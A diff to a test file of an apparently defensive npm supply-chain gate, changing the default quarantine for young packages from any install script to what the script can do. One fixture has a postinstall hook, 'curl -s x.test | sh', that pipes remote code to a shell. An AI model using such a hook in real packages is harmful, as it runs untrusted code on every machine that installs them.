@@ -11,6 +11,7 @@ from datetime import UTC, datetime, timedelta
 from mirrorgate.npm.contents import Contents, contents_of
 from mirrorgate.npm.specs import installed_dependencies
 from mirrorgate.rules import parse_rules
+from mirrorgate.rules.capabilities import check_alone
 from mirrorgate.rules.kinship import provenance_repository
 from mirrorgate.rules.release import (
     Dependency,
@@ -209,19 +210,27 @@ def test_an_old_package_or_a_young_one_that_runs_nothing_does_not_fire() -> None
                                "30 days", NOW) is None
 
 
-def test_by_default_only_the_young_package_signal_is_on_as_quarantine() -> None:
-    found = check_young_package(hooked("1.0.0", "node setup.js"), NOW - timedelta(days=1),
-                                DAYS_30, "30 days", NOW)
+def test_by_default_a_young_packages_script_is_judged_by_what_its_code_can_do() -> None:
+    script = check_young_package(hooked("1.0.0", "node setup.js"), NOW - timedelta(days=1),
+                                 DAYS_30, "30 days", NOW)
+    assert script is not None
+    defaults = parse_rules("", "r.toml")
+    # having a script is no longer held by default (young-package-install-script is off)...
+    assert not judge(defaults, "fresh-pkg", "1.0.0", NOW, [script], NOW, None).denied
+    # ...what the script can do is (young-package-capability, as quarantine)
+    download = Release("1.0.0", Contents(), commands={"postinstall": "curl -s x.test | sh"})
+    found = check_alone(download, "the package was first published yesterday")
     assert found is not None
-    verdict = judge(parse_rules("", "r.toml"), "fresh-pkg", "1.0.0", NOW, [found], NOW, None)
-    assert verdict.rule == "young-package-install-script"
+    verdict = judge(defaults, "fresh-pkg", "1.0.0", NOW, [found], NOW, None)
+    assert verdict.rule == "young-package-capability"
     assert verdict.until == NOW + timedelta(days=7)
     assert 'add "fresh-pkg@1.0.0" (or "fresh-pkg") to release.allow' in (verdict.reason or "")
 
 
 def test_a_young_packages_release_that_cannot_be_read_is_denied_by_default() -> None:
-    # issue 53: with no rules file the young-package signal reads the bytes, and what it
-    # cannot read (a package.json over the bound) is refused, never judged by the manifest
+    # issue 53: with no rules file the signals on read the bytes (issue 55's capability
+    # signals), and what they cannot read (a package.json over the bound) is refused, never
+    # judged by the manifest
     found = check_unreadable(["its tarball cannot be read: a package.json is larger than "
                               "1048576 bytes"])
     assert found is not None
@@ -229,11 +238,13 @@ def test_a_young_packages_release_that_cannot_be_read_is_denied_by_default() -> 
     verdict = judge(default, "fresh-pkg", "1.0.0", NOW, [found], NOW, None)
     assert verdict.rule == "unreadable-release"
     assert verdict.until is None
-    # it reads nothing itself: only a young package's releases are read, nothing compared
-    assert default.release.only_young_package
-    assert not default.release.compares
+    # it reads nothing itself: the capability signals read, and no baseline is chosen for
+    # it (a release before is read only for a capability that could have been gained)
+    assert default.release.reading == ("new-capability", "young-package-capability")
+    assert not default.release.compares_early
     off = parse_rules('[release]\n' + "".join(
-        f'{signal} = "off"\n' for signal in ("new_install_script", "new_dependency_young",
+        f'{signal} = "off"\n' for signal in ("new_capability", "young_package_capability",
+                                             "new_install_script", "new_dependency_young",
                                              "obfuscated_code", "typosquat",
                                              "new_dependency_outside",
                                              "young_package_install_script")), "r.toml")
